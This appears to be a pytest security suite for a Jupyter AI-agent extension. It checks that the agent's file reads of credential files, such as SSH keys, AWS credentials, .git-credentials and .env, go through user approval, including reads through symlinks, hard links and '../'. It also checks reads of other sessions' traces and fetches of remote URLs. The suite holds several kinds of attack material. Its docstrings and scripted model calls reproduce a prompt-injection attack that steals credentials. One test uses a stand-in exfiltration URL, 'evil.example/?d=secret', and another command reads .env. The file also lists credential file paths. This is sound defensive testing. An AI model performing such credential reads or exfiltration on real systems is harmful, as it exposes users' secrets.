"""Secret files by identity: `read_file` refuses penguin's vault and project config through any
name (hard link, symlink), and `credential_read_reason` makes the notebook approver ask, under
`read-only` and "always allow", before a read of a credential file (`.env*`, `~/.ssh/`,
`~/.aws/credentials`, the kernel's connection file…), of a file outside the workspace or of a
remote URL. The approver is the real approval router over a cell asking on its stdin channel.

Issue 25 (4), as an attacker: with the notebook in `~` the workspace is `~`, and on 838a3dd
`~/.git-credentials`, `~/.config/gh/hosts.yml`, `~/.kube/config`, `~/.pgpass`, `~/.pypirc`,
`~/.npmrc`, every trace under the data root and any session's scratchpad (or anything under a
project or agent named `skills` / `scratchpad`) were read without a question. Now each asks,
through its path, `../`, a symlink or a hard link, and only the running session's own scratchpad
is read freely; the card says `asked: read of a credential file: …`."""

from __future__ import annotations

import asyncio
import json
import os
from pathlib import Path

import pytest

from penguin_jupyter import create_agent
from penguin_jupyter.environment.call_reasons import credential_read_reason
from penguin_jupyter.environment.secret_files import (
    KERNEL_CONNECTION_FILE_ENV,
    SECRET_FILES_ENV,
    secret_file_label,
)
from penguin_jupyter.environment.tools.read_file import read_text_window
from penguin_jupyter.environment.types import ToolFailed
from penguin_jupyter.notebook.live.approval_row import ApprovalRow
from penguin_jupyter.notebook.runtime.approval import CellAsker
from penguin_jupyter.notebook.runtime.approval_router import ApprovalRouter, CellApproval
from penguin_jupyter.omni import tool_call, with_origin
from penguin_jupyter.state import paths, set_vault_value
from penguin_jupyter.testing import ScriptedModelServer
from tests.support.kernel import KernelHarness, kernel_env
from tests.support.session import configure_model

pytestmark = pytest.mark.security


@pytest.fixture
def home() -> Path:
    return Path(os.path.expanduser("~"))  # conftest's private HOME


@pytest.fixture
def workspace(tmp_path) -> Path:
    path = tmp_path / "ws"
    path.mkdir()
    (path / "notes.txt").write_text("plain notes\n")
    return path


def _read(path: str, **extra: object):
    return tool_call("read_file", json.dumps({"file_path": path, **extra}), "call_r")


class _Surface:
    def __init__(self) -> None:
        self.notes: list[str] = []
        self.shown: list[object] = []

    def show_approval(self, call, row, *, background: bool = False, preview=None) -> None:
        self.shown.append(call)

    def show_note(self, text: str) -> None:
        self.notes.append(text)


def _approver(
    mode: str, workspace: Path, prompts: list[str], answer: str = "n", always: set[str] | None = None
):
    def ask(prompt: str) -> str:
        prompts.append(prompt)
        return answer

    approval = CellApproval(
        mode=mode,
        permission_of=lambda name: "r" if name in ("read_file", "read_image") else "rw",
        always_allowed=always if always is not None else set(),
        asker=CellAsker(channel="stdin", surface=_Surface(), input_fn=ask),
        workspace_dir=str(workspace),
    )
    return ApprovalRouter(lambda: approval).approve_fn(approval)  # the launching cell is running


def _decide(approver, call) -> str:
    return asyncio.run(approver(call))


# --- the vault by identity: read_file refuses -----------------------------------------------------


async def test_read_file_refuses_a_hard_link_and_a_symlink_to_the_vault(workspace):
    agent = await create_agent()
    vault = paths.vault_path(agent.root, agent.project_id, agent.agent_id)
    set_vault_value(vault, "MY_SECRET", "vault-secret-value-1")
    os.link(vault, workspace / "innocent.txt")
    os.symlink(vault, workspace / "pointer.txt")
    for name in ("innocent.txt", "pointer.txt"):
        with pytest.raises(ToolFailed) as refused:
            read_text_window(name, str(workspace), 1, 2000, 64000)
        text = refused.value.text
        assert "vault-secret-value-1" not in text
        assert text.startswith(f'Refusing to read "{name}": ') and "holds the user's secrets" in text
        assert "the penguin vault" in text or name == "pointer.txt"
    config = paths.project_config_path(agent.root, agent.project_id)
    config.write_text('name = "p"\n')
    os.link(config, workspace / "cfg.txt")
    with pytest.raises(ToolFailed):
        read_text_window("cfg.txt", str(workspace), 1, 2000, 64000)
    # An ordinary file still reads.
    assert read_text_window("notes.txt", str(workspace), 1, 2000, 64000) == "     1\tplain notes"


# --- read-only asks -------------------------------------------------------------------------------


def test_read_only_asks_for_a_hard_link_to_aws_credentials(workspace, home):
    credentials = home / ".aws" / "credentials"
    credentials.parent.mkdir()
    credentials.write_text("[default]\naws_secret_access_key = abc\n")
    os.link(credentials, workspace / "innocent.txt")
    call = _read("innocent.txt")
    assert credential_read_reason(call, str(workspace)) == "read of a credential file: ~/.aws/"
    prompts: list[str] = []
    assert _decide(_approver("read-only", workspace, prompts), call) == "deny"
    assert len(prompts) == 1 and "read of a credential file: ~/.aws/" in prompts[0]
    # The same read is approved when the user says yes, and by allow-all without a question.
    assert _decide(_approver("read-only", workspace, prompts, answer="y"), call) == "allow"
    before = len(prompts)
    assert _decide(_approver("allow-all", workspace, prompts), call) == "allow"
    assert len(prompts) == before


def test_read_only_asks_for_a_symlink_and_a_hard_link_into_dot_ssh(workspace, home):
    ssh = home / ".ssh"
    ssh.mkdir()
    (ssh / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    (ssh / "deploy").write_text("another key\n")
    os.symlink(ssh / "id_ed25519", workspace / "key.txt")
    os.link(ssh / "deploy", workspace / "deploy.txt")
    for name in ("key.txt", "deploy.txt"):
        assert credential_read_reason(_read(name), str(workspace)) == "read of a credential file: ~/.ssh/"
        prompts: list[str] = []
        assert _decide(_approver("read-only", workspace, prompts), _read(name)) == "deny"
        assert len(prompts) == 1


def test_read_only_asks_for_dotenv_files(workspace):
    (workspace / ".env").write_text("OPENAI_API_KEY=sk-x\n")
    (workspace / ".env.local").write_text("TOKEN=t\n")
    os.link(workspace / ".env", workspace / "settings.txt")
    assert credential_read_reason(_read(".env"), str(workspace)) == "read of a credential file: a .env file"
    assert (
        credential_read_reason(_read(".env.local"), str(workspace)) == "read of a credential file: a .env.local file"
    )
    assert (
        credential_read_reason(_read("settings.txt"), str(workspace))
        == "read of a credential file: the workspace's .env"
    )
    for name in (".env", ".env.local", "settings.txt"):
        prompts: list[str] = []
        assert _decide(_approver("read-only", workspace, prompts), _read(name)) == "deny"
        assert len(prompts) == 1


def test_read_only_asks_outside_the_workspace_and_not_inside(workspace, tmp_path):
    outside = tmp_path / "elsewhere.txt"
    outside.write_text("x\n")
    assert credential_read_reason(_read(str(outside)), str(workspace)) == f"outside the workspace: {outside}"
    assert credential_read_reason(_read("../elsewhere.txt"), str(workspace)).startswith(
        "outside the workspace"
    )
    prompts: list[str] = []
    assert _decide(_approver("read-only", workspace, prompts), _read(str(outside))) == "deny"
    assert len(prompts) == 1
    assert credential_read_reason(_read("notes.txt"), str(workspace)) is None
    assert _decide(_approver("read-only", workspace, prompts), _read("notes.txt")) == "allow"
    assert len(prompts) == 1, "a read inside the workspace is still approved without a question"


async def test_only_the_running_sessions_own_scratchpad_is_read_without_asking(workspace):
    agent = await create_agent()
    own = paths.session_scratchpad_dir(agent.root, agent.project_id, agent.agent_id, "s-own")
    other = paths.session_scratchpad_dir(agent.root, agent.project_id, agent.agent_id, "s-other")
    for folder in (own, other):
        folder.mkdir(parents=True)
        (folder / "a.log").write_text("archived output\n")
    skill = paths.skills_dir(agent.root, agent.project_id, agent.agent_id) / "plot" / "SKILL.md"
    skill.parent.mkdir(parents=True)
    skill.write_text("# plot\n")
    # A project named `skills` with an agent named `scratchpad` is not special.
    named = agent.root / "skills" / "agents" / "scratchpad" / "agent_state" / "notes.txt"
    named.parent.mkdir(parents=True)
    named.write_text("x\n")
    assert credential_read_reason(_read(str(own / "a.log")), str(workspace), own) is None
    for path in (other / "a.log", skill, named, own / "a.log"):
        scratchpad = own if path != own / "a.log" else other  # the last: seen from another session
        reason = credential_read_reason(_read(str(path)), str(workspace), scratchpad)
        assert reason is not None and reason.startswith("read of a credential file: "), (path, reason)
    assert "another session's scratchpad" in str(credential_read_reason(_read(str(other / "a.log")), str(workspace), own))
    # `../` out of the own scratchpad into another's is the other's.
    sneaky = str(own / ".." / "s-other" / "a.log")
    assert str(credential_read_reason(_read(sneaky), str(workspace), own)).startswith("read of a credential file")
    # A subagent's call (its origin names its session) reads its own scratchpad, not its parent's.
    child = with_origin(_read(str(other / "a.log")), "s-other")
    assert credential_read_reason(child, str(workspace), own) is None
    assert credential_read_reason(with_origin(_read(str(own / "a.log")), "s-other"), str(workspace), own)


_HOME_CREDENTIALS = {
    ".git-credentials": "~/.git-credentials",
    ".config/gh/hosts.yml": "~/.config/gh/",
    ".kube/config": "~/.kube/",
    ".pgpass": "~/.pgpass",
    ".pypirc": "~/.pypirc",
    ".npmrc": "~/.npmrc",
    ".ssh/id_ed25519": "~/.ssh/",
    ".aws/credentials": "~/.aws/",
    ".config/gcloud/credentials.db": "~/.config/gcloud/",
    ".netrc": "~/.netrc",
    ".env": ".env",
}


def _plant_home_credentials(home: Path) -> dict[str, Path]:
    planted = {}
    for relative in _HOME_CREDENTIALS:
        path = home / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"secret-in-{relative}\n")
        planted[relative] = path
    return planted


async def test_with_the_notebook_in_home_read_only_asks_for_every_credential_file(home):
    """The workspace is `~`: each credential file by its path, through `../`, a symlink and a
    hard link with an innocent name, and the data root's traces, configs and vault, all ask."""
    agent = await create_agent()
    planted = _plant_home_credentials(home)
    trace = agent.root / agent.project_id / "agents" / agent.agent_id / "traces" / "2026" / "old.jsonl"
    trace.parent.mkdir(parents=True, exist_ok=True)
    trace.write_text('{"text": "an older session"}\n')
    config = agent.root / agent.project_id / "agents" / agent.agent_id / "system_config.yaml"
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text("model: {}\n")
    (home / "project").mkdir()
    (home / "notes.txt").write_text("plain\n")
    links = home / "project" / "links"
    links.mkdir()
    owned = paths.session_scratchpad_dir(agent.root, agent.project_id, agent.agent_id, "s-own")
    targets = {**planted, "trace": trace, "config": config, "root": agent.root / "anything.txt"}
    targets["root"].write_text("x\n")
    for key, path in targets.items():
        name = key.replace("/", "_").lstrip(".")
        os.symlink(path, links / f"sym-{name}.txt")
        os.link(path, links / f"hard-{name}.txt")
        relative = os.path.relpath(path, home)
        for argument in (
            relative,
            str(path),
            f"project/../{relative}",
            f"project/links/sym-{name}.txt",
            f"project/links/hard-{name}.txt",
        ):
            reason = credential_read_reason(_read(argument), str(home), owned)
            assert reason is not None and reason.startswith("read of a credential file: "), (argument, reason)
            prompts: list[str] = []
            assert await _approver("read-only", home, prompts)(_read(argument)) == "deny", argument
            assert len(prompts) == 1 and "asked: read of a credential file" in prompts[0]
        shown = str(credential_read_reason(_read(str(path)), str(home), owned))
        assert any(word in shown for word in (_HOME_CREDENTIALS.get(key, "penguin"), os.path.basename(key))), shown
    assert credential_read_reason(_read("notes.txt"), str(home), owned) is None
    prompts = []
    assert await _approver("read-only", home, prompts)(_read("notes.txt")) == "allow" and not prompts


def test_a_temporary_workspace_inside_the_data_root_is_the_sessions_own(home):
    root = Path(os.environ["PENGUIN_HOME"])
    workspace = paths.workspaces_dir(root, "default_project", "default_agent") / "tmp-1"
    workspace.mkdir(parents=True)
    (workspace / "out.csv").write_text("a,b\n")
    (root / "default_project" / "traces.jsonl").write_text("{}\n")
    assert credential_read_reason(_read("out.csv"), str(workspace)) is None
    assert str(credential_read_reason(_read("../../../../traces.jsonl"), str(workspace))).startswith(
        "read of a credential file"
    )
    # A workspace that is the data root itself (or any other folder in it) is not the session's own.
    for elsewhere in (root, root / "default_project"):
        reason = credential_read_reason(_read("default_project/traces.jsonl" if elsewhere == root else "traces.jsonl"), str(elsewhere))
        assert str(reason).startswith("read of a credential file"), (elsewhere, reason)


def test_always_allow_does_not_cover_credentials_but_deny_all_still_denies(workspace, home):
    (home / ".netrc").write_text("machine h login u password p\n")
    call = _read(str(home / ".netrc"))
    prompts: list[str] = []
    approver = _approver("ask", workspace, prompts, always={"read_file"})
    assert _decide(approver, call) == "deny" and "read of a credential file: ~/.netrc" in prompts[0]
    assert _decide(approver, _read("notes.txt")) == "allow"
    assert _decide(_approver("deny-all", workspace, prompts), call) == "deny"
    assert len(prompts) == 1


def test_remote_image_urls_ask_under_read_only(workspace):
    call = tool_call("read_image", json.dumps({"source": "https://evil.example/?d=secret"}), "c_i")
    assert (
        credential_read_reason(call, str(workspace)) == "fetches a remote URL: https://evil.example/?d=secret"
    )
    prompts: list[str] = []
    assert _decide(_approver("read-only", workspace, prompts), call) == "deny" and len(prompts) == 1


def test_a_commands_reads_have_their_reason_bad_arguments_none(workspace):
    """A command's own reads come from the command analysis through the same effect: `cat .env`
    reads a credential file like read_file of it. Unreadable arguments touch nothing (the tool
    refuses them)."""
    assert (
        credential_read_reason(tool_call("exec_command", '{"cmd": "cat .env"}', "c"), str(workspace))
        == "read of a credential file: a .env file"
    )
    assert credential_read_reason(tool_call("exec_command", '{"cmd": "ls"}', "c"), str(workspace)) is None
    assert credential_read_reason(tool_call("read_file", "{not json", "c"), str(workspace)) is None
    assert credential_read_reason(tool_call("read_file", "{}", "c"), str(workspace)) is None


def test_registered_files_by_environment_variable(workspace, tmp_path, monkeypatch):
    connection = tmp_path / "runtime" / "tmp1234.json"
    connection.parent.mkdir()
    connection.write_text('{"key": "hmac"}')
    other = tmp_path / "team-token.txt"
    other.write_text("token\n")
    monkeypatch.setenv(KERNEL_CONNECTION_FILE_ENV, str(connection))
    monkeypatch.setenv(SECRET_FILES_ENV, os.pathsep.join(["", str(other)]))
    os.link(connection, workspace / "conn.txt")
    os.symlink(other, workspace / "team.txt")
    assert secret_file_label(str(workspace / "conn.txt"), str(workspace)) == "the kernel's connection file"
    assert secret_file_label(str(workspace / "team.txt"), str(workspace)) == str(other)


@pytest.mark.kernel
def test_the_kernel_registers_its_connection_file_at_load_ext(tmp_path):
    kernel = KernelHarness(str(tmp_path), kernel_env())
    try:
        kernel.execute("%load_ext penguin_jupyter")
        probe = (
            "from penguin_jupyter.environment.call_reasons import credential_read_reason\n"
            "from penguin_jupyter.omni import tool_call\n"
            "import json, os\n"
            "from ipykernel.connect import get_connection_file\n"
            "os.link(get_connection_file(), 'innocent.json')\n"
            "print(credential_read_reason(tool_call('read_file', json.dumps({'file_path': 'innocent.json'}), 'c'), os.getcwd()))"
        )
        result = kernel.execute(probe)
    finally:
        kernel.close()
    assert result.reply["content"]["status"] == "ok", result.stderr
    assert result.stdout == "read of a credential file: the kernel's connection file\n", result.stdout


def test_the_approval_row_names_the_reason():
    loop = asyncio.new_event_loop()
    try:
        row = ApprovalRow(loop, "read_file", "asked: read of a credential file: ~/.ssh/")  # the router's reason
        assert "asked: read of a credential file: ~/.ssh/" in row.status.value
        assert ApprovalRow(loop, "read_file").status.value == ""
    finally:
        loop.close()


@pytest.mark.kernel
def test_read_only_cell_asks_before_reading_a_hard_link_to_dotenv_and_deny_keeps_it_out(tmp_path):
    notebook_dir = tmp_path / "nb"
    notebook_dir.mkdir()
    (notebook_dir / ".env").write_text("MY_SERVICE_TOKEN=tok-value-1234567\n")
    os.link(notebook_dir / ".env", notebook_dir / "innocent.txt")
    script = [
        {
            "tool_calls": [
                {"name": "read_file", "id": "call_n", "arguments": {"file_path": "notes.txt"}},
                {"name": "read_file", "id": "call_e", "arguments": {"file_path": "innocent.txt"}},
            ]
        },
        {"text": "I could not read it."},
    ]
    (notebook_dir / "notes.txt").write_text("plain notes\n")
    with ScriptedModelServer(script) as server:
        configure_model(Path(os.environ["PENGUIN_HOME"]), server)
        env = kernel_env({"JPY_SESSION_NAME": str(notebook_dir / "analysis.ipynb")})
        kernel = KernelHarness(str(notebook_dir), env)
        clicked: list[str] = []

        def on_message(msg, result):
            if msg["msg_type"] == "comm_open":
                for comm_id in result.buttons("Deny"):
                    if comm_id not in clicked:
                        clicked.append(comm_id)
                        kernel.click(comm_id)

        try:
            kernel.execute("%load_ext penguin_jupyter")
            result = kernel.execute(
                "%%penguin --approve read-only\nRead my notes", on_message=on_message, timeout=120
            )
        finally:
            kernel.close()
    assert result.reply["content"]["status"] == "ok", result.stderr
    assert len(clicked) == 1, "only the credential read asks; notes.txt is read without a question"
    reasons = [
        m["content"]["data"]["state"].get("value", "")
        for m in result.of_type("comm_open")
        if m["content"].get("data", {}).get("state", {}).get("_model_name") == "HTMLModel"
    ]
    assert any("asked: read of a credential file: the workspace&#x27;s .env" in r for r in reasons), reasons
    tool_messages = [m for m in server.requests[1]["messages"] if m["role"] == "tool"]
    assert [m["content"] for m in tool_messages] == ["     1\tplain notes", "Tool call denied by user."]
    assert "tok-value-1234567" not in json.dumps(server.requests)


@pytest.mark.kernel
def test_notebook_in_home_read_only_cell_asks_for_git_credentials_and_another_sessions_trace(home):
    """The attack of issue 25 (4): the notebook lives in `~`, so the workspace is `~`; a
    prompt-injected model reads `~/.git-credentials` and, through a symlink, an older session's
    trace. Both ask (the card says why), Deny keeps them out of the model's context, and an
    ordinary file in `~` is still read without a question."""
    root = Path(os.environ["PENGUIN_HOME"])
    (home / ".git-credentials").write_text("https://me:ghp_gitcredential123456@github.com\n")
    trace = root / "default_project" / "agents" / "default_agent" / "traces" / "2026-01-01" / "old.jsonl"
    trace.parent.mkdir(parents=True)
    trace.write_text('{"text": "older-session-secret-98765"}\n')
    os.symlink(trace, home / "old-notes.txt")
    (home / "notes.txt").write_text("plain notes\n")
    script = [
        {
            "tool_calls": [
                {"name": "read_file", "id": "call_n", "arguments": {"file_path": "notes.txt"}},
                {"name": "read_file", "id": "call_g", "arguments": {"file_path": ".git-credentials"}},
                {"name": "read_file", "id": "call_t", "arguments": {"file_path": "old-notes.txt"}},
            ]
        },
        {"text": "I could not read them."},
    ]
    with ScriptedModelServer(script) as server:
        configure_model(root, server)
        env = kernel_env({"JPY_SESSION_NAME": str(home / "analysis.ipynb")})
        kernel = KernelHarness(str(home), env)
        clicked: list[str] = []

        def on_message(msg, result):
            if msg["msg_type"] == "comm_open":
                for comm_id in result.buttons("Deny"):
                    if comm_id not in clicked:
                        clicked.append(comm_id)
                        kernel.click(comm_id)

        try:
            kernel.execute("%load_ext penguin_jupyter")
            result = kernel.execute(
                "%%penguin --approve read-only\nRead my notes", on_message=on_message, timeout=120
            )
        finally:
            kernel.close()
    assert result.reply["content"]["status"] == "ok", result.stderr
    assert len(clicked) == 2, "the two credential reads ask; notes.txt is read without a question"
    reasons = [
        m["content"]["data"]["state"].get("value", "")
        for m in result.of_type("comm_open")
        if m["content"].get("data", {}).get("state", {}).get("_model_name") == "HTMLModel"
    ]
    assert any("asked: read of a credential file: ~/.git-credentials" in r for r in reasons), reasons
    assert any("asked: read of a credential file: a penguin session trace" in r for r in reasons), reasons
    tool_messages = [m for m in server.requests[1]["messages"] if m["role"] == "tool"]
    assert [m["content"] for m in tool_messages] == [
        "     1\tplain notes",
        "Tool call denied by user.",
        "Tool call denied by user.",
    ]
    sent = json.dumps(server.requests)
    assert "ghp_gitcredential123456" not in sent and "older-session-secret-98765" not in sent
